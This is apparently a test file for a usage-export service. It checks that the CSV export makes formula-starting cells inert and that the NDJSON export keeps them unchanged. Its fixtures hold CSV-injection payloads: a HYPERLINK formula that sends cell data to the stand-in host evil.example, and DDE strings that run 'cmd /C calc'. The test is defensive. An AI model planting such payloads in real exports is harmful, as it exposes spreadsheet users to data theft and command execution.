import request from 'supertest';
import { createTenantWithKey, gqlOk, startTestService, type TestService } from './support/service';

/**
 * The usage export opened in a spreadsheet: an externally reported event can carry any text, and a cell
 * starting with = + - @ tab or carriage return would be evaluated as a formula (CSV injection). The CSV
 * export makes such cells inert; the NDJSON export, which no spreadsheet evaluates, carries them unchanged.
 */

const HOUR = 3_600_000;
const RECORD = 'mutation($e: [UsageEventInput!]!) { recordUsage(events: $e) { accepted rejected { field reason } } }';

/** RFC 4180 fields: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('usage export as CSV', () => {
  let t: TestService;

  beforeAll(async () => {
    t = await startTestService();
  });
  afterAll(async () => {
    await t?.stop();
  });

  it('makes cells that a spreadsheet would run as formulas inert, and leaves NDJSON unchanged', async () => {
    const tenant = await createTenantWithKey(t, 'Formula Co');
    const billing = (await gqlOk(t.url, t.adminToken, 'mutation { createApiKey(role: BILLING) { secret } }')).createApiKey.secret as string;
    const time = new Date(Math.floor(Date.now() / HOUR) * HOUR - HOUR).toISOString();
    const hostile = {
      id: '=HYPERLINK("https://evil.example/?d="&A1,"open")',
      unit: '+1+cmd|" /C calc"!A0',
      resourceId: '@SUM(1+1)*cmd|" /C calc"!A0',
      site: '-2+3',
    };
    const events = [
      {
        specversion: '1.0',
        id: hostile.id,
        source: 'urn:example:nfs-agent',
        type: 'nfs.bytes_read',
        subject: tenant.tenantId,
        time,
        data: { quantity: '42', unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site },
      },
      {
        specversion: '1.0',
        id: 'plain-1',
        source: 'urn:example:nfs-agent',
        type: 'nfs.bytes_read',
        subject: tenant.tenantId,
        time,
        // Ids and resource ids may hold no control characters; free-form data may: a tab or CR first.
        data: { quantity: '7', unit: '\r=1+1', resourceId: 'plain-resource', site: '\t=1+1' },
      },
    ];
    expect((await gqlOk(t.url, billing, RECORD, { e: events })).recordUsage).toEqual({ accepted: 2, rejected: [] });

    const query = {
      from: new Date(Date.parse(time) - HOUR).toISOString(),
      to: new Date(Date.parse(time) + HOUR).toISOString(),
      tenantId: tenant.tenantId,
    };
    const csv = await request(t.url)
      .get('/usage/export')
      .query({ ...query, format: 'csv' })
      .set('authorization', `Bearer ${billing}`);
    expect(csv.status).toBe(200);
    const [header, ...rows] = parseCsv(csv.text);
    const records = rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])) as Record<string, string>);
    const byResource = new Map(records.map((r) => [JSON.parse(r.data).resourceId as string, r]));
    const attack = byResource.get(hostile.resourceId)!;
    expect(attack).toMatchObject({
      id: `'${hostile.id}`,
      unit: `'${hostile.unit}`,
      resourceId: `'${hostile.resourceId}`,
      site: `'${hostile.site}`,
      quantity: '42',
      source: 'urn:example:nfs-agent',
    });
    expect(byResource.get('plain-resource')).toMatchObject({
      id: 'plain-1',
      resourceId: 'plain-resource',
      unit: "'\r=1+1",
      site: "'\t=1+1",
    });
    // Each neutralised cell is quoted, the quote inside it: '"'=HYPERLINK(""…' on the wire.
    expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
    expect(csv.text).toContain(`"'-2+3"`);
    // The data column is JSON: it starts with { and carries the values as recorded.
    expect(JSON.parse(attack.data)).toMatchObject({ unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site });

    const json = await request(t.url)
      .get('/usage/export')
      .query({ ...query, format: 'json' })
      .set('authorization', `Bearer ${billing}`)
      .buffer(true)
      .parse((res, cb) => {
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString()));
        res.on('end', () => cb(null, body));
      });
    const exported = (json.body as string)
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    const recorded = exported.find((e) => e.id === hostile.id);
    expect(recorded).toMatchObject({ id: hostile.id, data: { unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site } });
    expect(exported.find((e) => e.id === 'plain-1').data).toMatchObject({ unit: '\r=1+1', site: '\t=1+1' });
  });
});
